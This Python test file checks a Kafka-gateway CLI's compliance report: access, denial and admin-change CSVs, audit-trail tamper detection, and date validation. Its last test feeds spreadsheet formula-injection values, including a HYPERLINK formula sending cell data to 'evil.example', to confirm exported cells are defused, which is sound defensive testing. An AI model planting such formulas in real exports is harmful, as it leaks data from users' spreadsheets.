"""``kgw report compliance``: access, denials and admin changes for a period, from real files."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path

import pytest

from gateway.analytics.simulate import SimulationOptions, simulate, write_simulation
from gateway.audit import AuditTrail, policy_change_hook
from gateway.authz.model import AclRule
from gateway.authz.policyfile import Membership, parse_line
from gateway.authz.store import PolicyChange
from gateway.cli import main

pytestmark = pytest.mark.jvm  # kgw report compliance starts Spark inside main()

OPTIONS = SimulationOptions(tenants=2, principals=3, hours=48, attacks=1)


def kgw(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("compliance")
    write_simulation(root, OPTIONS)
    trail = AuditTrail(root / "audit.jsonl")
    hook = policy_change_hook(trail, "policies/policy.csv")
    rule = parse_line("p, User:acme-orders, TOPIC, LITERAL, acme.orders, WRITE, *, allow")
    assert isinstance(rule, AclRule)
    hook(PolicyChange("cli:alice", "add", added=(rule,), at=1_793_664_000.0))  # 11-03 00:00
    member = Membership("User:bob", "Role:ops")
    hook(PolicyChange("cli:carol", "add_role_member", members_added=(member,), at=1_793_700_000.0))
    trail.append("cli:dave", "quota.set", "tenant:acme", {"rate": 1}, {"rate": 2}, at=1_793_800_000)
    return root


def _expected(start: str, end: str) -> tuple[set[tuple[str, str, str]], int]:
    _, records, _ = simulate(OPTIONS)
    period = [r for r in records if start <= r["ts"] < end]
    access = {
        (r["principal"], topic, r["api"])
        for r in period
        if r["type"] == "request" and r["decision"] == "allow"
        for topic in r["topics"]
    }
    denied = sum(
        1
        for r in period
        if r["decision"] == "deny" or (r["event"] == "auth" and r["outcome"] == "failure")
    )
    return access, denied


def test_compliance_report_for_a_day(world: Path) -> None:
    out = world / "report"
    code, stdout, stderr = kgw(
        "report",
        "compliance",
        "--from",
        "2026-11-03",
        "--to",
        "2026-11-03",
        "--logs",
        str(world / "logs"),
        "--audit",
        str(world / "audit.jsonl"),
        "--out",
        str(out),
    )
    assert code == 0, stderr
    assert "stage 5/5" in stderr and "audit trail: verified" in stdout
    access, denied = _expected("2026-11-03T00:00:00.000Z", "2026-11-04T00:00:00.000Z")
    with open(out / "access.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {(r["principal"], r["topic"], r["api"]) for r in rows} == access
    assert {r["operation"] for r in rows if r["api"] == "produce"} == {"WRITE"}
    assert {r["operation"] for r in rows if r["api"] == "fetch"} <= {"READ"}
    assert all(r["first"].startswith("2026-11-03") for r in rows)
    with open(out / "denied.csv", newline="") as handle:
        refused = list(csv.DictReader(handle))
    assert len(refused) == denied
    assert {r["kind"] for r in refused} == {"authorization", "authentication"}
    with open(out / "admin-changes.csv", newline="") as handle:
        changes = list(csv.DictReader(handle))
    assert [(c["actor"], c["action"]) for c in changes] == [
        ("cli:alice", "policy.add"),
        ("cli:carol", "policy.add_role_member"),
    ]  # the quota change is on the next day
    assert json.loads(changes[0]["after"])["rules"][0]["name"] == "acme.orders"
    html = (out / "compliance.html").read_text()
    assert f'<b id="denied-total">{denied}</b>' in html
    assert "verified (3 entries" in html and "acme.orders" in html


def test_a_tampered_trail_is_flagged_in_the_report(world: Path, tmp_path: Path) -> None:
    tampered = tmp_path / "audit.jsonl"
    lines = (world / "audit.jsonl").read_text().splitlines()
    lines[0] = lines[0].replace("cli:alice", "cli:mallory")
    tampered.write_text("\n".join(lines) + "\n")
    (tmp_path / "audit.jsonl.head").write_text((world / "audit.jsonl.head").read_text())
    code, stdout, _ = kgw(
        "report",
        "compliance",
        "--from",
        "2026-11-03T00:00:00Z",
        "--to",
        "2026-11-04T00:00:00Z",
        "--logs",
        str(world / "logs"),
        "--audit",
        str(tampered),
        "--out",
        str(tmp_path / "out"),
        "--quiet",
    )
    assert code == 0
    assert "FAILED" in stdout
    html = (tmp_path / "out" / "compliance.html").read_text()
    assert 'class="bad"' in html and "line 1 (seq 1): edited" in html


def test_bad_periods_are_refused(world: Path) -> None:
    code, _, stderr = kgw(
        "report",
        "compliance",
        "--from",
        "2026-11-04",
        "--to",
        "2026-11-03T00:00:00Z",
        "--logs",
        str(world / "logs"),
    )
    assert code == 2 and "--to must be after --from" in stderr


def _line(**fields: object) -> str:
    base: dict[str, object] = {"v": 1, "instance": "gw-1", "conn": "c1", "listener": "public"}
    base.update(client_host="203.0.113.5", client_port=5000, tenant="ta")
    return json.dumps({**base, **fields})


def test_refused_parts_are_not_access_and_cells_are_inert(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    request = {"type": "request", "event": "request", "principal": "User:ta-app"}
    request.update(api="fetch", api_version=12, groups=[], transactional_ids=[], partitions=2)
    lines = [
        _line(
            ts="2026-11-18T10:00:00.000Z",
            **request,
            topics=["ta.ok", "ta.secret"],
            denied=["topic:ta.secret"],
            decision="partial",
            error_code=0,
            bytes_in=100,
            bytes_out=5000,
        ),
        _line(
            ts="2026-11-18T10:01:00.000Z",
            **{**request, "client_id": "=cmd"},
            topics=["@SUM(1+1)"],
            denied=["topic:@SUM(1+1)"],
            decision="deny",
            error_code=29,
            bytes_in=50,
            bytes_out=40,
        ),
        _line(
            ts="2026-11-18T10:02:00.000Z",
            type="connection",
            event="auth",
            principal="User:ANONYMOUS",
            sasl_mechanism="PLAIN",
            outcome="failure",
            reason="unknown_key",
            claimed='=HYPERLINK("http://evil.example/?"&A1,"open")',
        ),
    ]
    (logs / "access.log").write_text("\n".join(lines) + "\n")
    out = tmp_path / "out"
    code, _, stderr = kgw(
        "report", "compliance", "--from", "2026-11-18", "--to", "2026-11-18",
        "--logs", str(logs), "--out", str(out), "--quiet",
    )  # fmt: skip
    assert code == 0, stderr
    with open(out / "access.csv", newline="") as handle:
        access = list(csv.DictReader(handle))
    assert [(r["topic"], r["request_bytes"]) for r in access] == [("ta.ok", "5100")]
    with open(out / "denied.csv", newline="") as handle:
        denied = {r["kind"]: r for r in csv.DictReader(handle)}
    assert denied["authorization"]["resources"] == "topic:@SUM(1+1)"
    assert denied["authentication"]["principal"].startswith("'=HYPERLINK(")
    for row in denied.values():  # no cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "@")) for v in row.values() if v)
